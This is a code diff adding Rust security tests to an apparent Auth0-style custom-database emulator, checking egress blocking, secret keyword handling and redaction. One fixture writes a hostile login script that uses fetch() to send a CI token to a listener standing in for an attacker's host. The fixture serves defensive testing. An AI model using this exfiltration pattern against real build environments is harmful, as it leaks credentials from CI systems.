@@ -433,3 +433,172 @@ fn a_tenant_cannot_list_its_way_into_internal_addresses() {
         assert_eq!(seen, "reached 200");
     });
 }
+
+/// A connection folder as an untrusted pull request would bring it: its configuration names a
+/// CI secret, its allow-list names a host it controls, and its login script sends whatever it
+/// holds there.
+fn exfiltrating_folder(
+    root: &std::path::Path,
+    port: u16,
+    token_keyword: &str,
+    expected_nickname: &str,
+) -> std::path::PathBuf {
+    let dir = root.join("evil");
+    std::fs::create_dir_all(dir.join("cases")).unwrap();
+    std::fs::write(
+        dir.join("database.json"),
+        json!({"name": "evil", "options": {
+        "configuration": {"TOKEN": token_keyword},
+        "allowed_hosts": [format!("127.0.0.1:{port}")]}})
+        .to_string(),
+    )
+    .unwrap();
+    std::fs::write(dir.join("login.js"), format!(
+        "function login(e, p, cb) {{ fetch('http://127.0.0.1:{port}/?t=' + encodeURIComponent(configuration.TOKEN)).then(\
+         (r) => cb(null, {{ user_id: 1, email: e, nickname: 'sent ' + r.status }}), (err) => cb(null, {{ user_id: 1, email: e, nickname: err.cause.code }})); }}")).unwrap();
+    std::fs::write(
+        dir.join("cases/login.json"),
+        json!([{"name": "login", "action": "login",
+        "args": ["a@example.com", "pw"], "expect": {"outcome": "success", "result": {"nickname": expected_nickname}}}])
+        .to_string(),
+    )
+    .unwrap();
+    dir
+}
+
+#[test]
+fn customdb_test_never_sends_the_ci_environment_out() {
+    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    listener.set_nonblocking(true).unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let root = tempfile::tempdir().unwrap();
+    let run = |dir: &std::path::Path, extra: &[&str]| {
+        let out = std::process::Command::new(crate::util::customdb_exe())
+            .args(["test", "--json"])
+            .arg(dir)
+            .args(extra)
+            .env("GITHUB_TOKEN", "ghp_the-ci-secret-token")
+            .output()
+            .unwrap();
+        (
+            out.status.code(),
+            String::from_utf8_lossy(&out.stdout).into_owned(),
+        )
+    };
+    // The keyword names an environment variable the CI has: it is not filled from it.
+    let dir = exfiltrating_folder(root.path(), port, "##GITHUB_TOKEN##", "EGRESS_DENIED");
+    let (code, report) = run(&dir, &[]);
+    assert_eq!(code, Some(1), "{report}");
+    assert!(
+        report.contains("keyword ##GITHUB_TOKEN## has no value"),
+        "{report}"
+    );
+    // With an honest configuration, the folder's own allow-list does not open the door either.
+    let dir = exfiltrating_folder(root.path(), port, "not-a-secret", "EGRESS_DENIED");
+    let (code, report) = run(&dir, &[]);
+    assert_eq!(code, Some(0), "the script's fetch was refused: {report}");
+    assert!(
+        listener.accept().is_err(),
+        "nothing reached the attacker's host"
+    );
+    // The operator may open it on the command line.
+    listener.set_nonblocking(false).unwrap();
+    let answer = std::thread::spawn(move || {
+        use std::io::{Read as _, Write as _};
+        let (mut socket, _) = listener.accept().unwrap();
+        let mut request = [0u8; 4096];
+        let n = socket.read(&mut request).unwrap();
+        socket
+            .write_all(b"HTTP/1.1 204 No Content\r\nconnection: close\r\n\r\n")
+            .unwrap();
+        String::from_utf8_lossy(&request[..n]).into_owned()
+    });
+    let dir = exfiltrating_folder(root.path(), port, "not-a-secret", "sent 204");
+    let (code, report) = run(&dir, &["--allow-host", &format!("127.0.0.1:{port}")]);
+    assert_eq!(code, Some(0), "--allow-host opens the host: {report}");
+    assert!(answer.join().unwrap().contains("t=not-a-secret"));
+}
+
+#[test]
+fn secrets_never_leave_in_any_field_or_form() {
+    const PASSWORD: &str = "Tr0ub4dor&3 horse";
+    const SECRET: &str = "s3cret-db-password";
+    let s = start();
+    let script = "function login(email, password, callback) {
+        console.log('as json ' + JSON.stringify({ p: password }) + ' as url ' + encodeURIComponent(password));
+        const e = new Error('the database said no to ' + password + ' with ' + configuration.DB_PASSWORD);
+        e.name = 'Rejected ' + password;
+        e.code = configuration.DB_PASSWORD;
+        e.description = encodeURIComponent(configuration.DB_PASSWORD);
+        callback(e);
+    }";
+    block_on(async {
+        let token = s.management_token().await;
+        let (status, created) = call("POST", &format!("{}/api/v2/connections", s.base), Some(&token), Some(json!({
+            "name": "leaky", "strategy": "auth0",
+            "options": {"customScripts": {"login": script}, "configuration": {"DB_PASSWORD": SECRET}}}))).await;
+        assert_eq!(status, 201, "{created}");
+        // The end user sees Auth0's sentence and a request id, never the script's words.
+        let (status, answer) = call(
+            "POST",
+            &format!("{}/oauth/token", s.base),
+            None,
+            Some(json!({
+            "grant_type": REALM, "realm": "leaky", "client_id": s.app_id,
+            "username": "a@example.com", "password": PASSWORD})),
+        )
+        .await;
+        assert_eq!(status, 500, "{answer}");
+        assert_eq!(
+            answer["error_description"],
+            "Something went wrong while trying to reach your database."
+        );
+        assert_eq!(
+            answer["request_id"].as_str().map(str::len),
+            Some(32),
+            "{answer}"
+        );
+        assert!(!answer.to_string().contains("database said no"), "{answer}");
+        // The tenant's administrator sees the script's own error, redacted in every field.
+        let (_, run) = call(
+            "POST",
+            &format!(
+                "{}/api/v2/connections/{}/try",
+                s.base,
+                created["id"].as_str().unwrap()
+            ),
+            Some(&token),
+            Some(json!({"action": "login", "args": ["a@example.com", PASSWORD]})),
+        )
+        .await;
+        assert_eq!(run["error"]["name"], "Rejected [REDACTED]", "{run}");
+        assert_eq!(run["error"]["code"], "[REDACTED]", "{run}");
+        assert_eq!(run["error"]["description"], "[REDACTED]", "{run}");
+        assert_eq!(
+            run["console"][0]["message"], "as json {\"p\":\"[REDACTED]\"} as url [REDACTED]",
+            "{run}"
+        );
+        let (_, logs) = call(
+            "GET",
+            &format!("{}/api/v2/logs", s.base),
+            Some(&token),
+            None,
+        )
+        .await;
+        let seen = format!("{answer}{run}{logs}");
+        let encoded: String = url::form_urlencoded::byte_serialize(PASSWORD.as_bytes()).collect();
+        for secret in [PASSWORD, SECRET, encoded.as_str()] {
+            assert!(!seen.contains(secret), "{secret} leaked: {seen}");
+        }
+    });
+    // Nor does the store hold them in clear (the configuration is sealed).
+    let data = s.data_folder();
+    for file in ["store.db", "store.db-wal"] {
+        let bytes = std::fs::read(data.join(file)).unwrap_or_default();
+        let text = String::from_utf8_lossy(&bytes);
+        assert!(
+            !text.contains(PASSWORD) && !text.contains(SECRET),
+            "{file} holds a secret"
+        );
+    }
+}
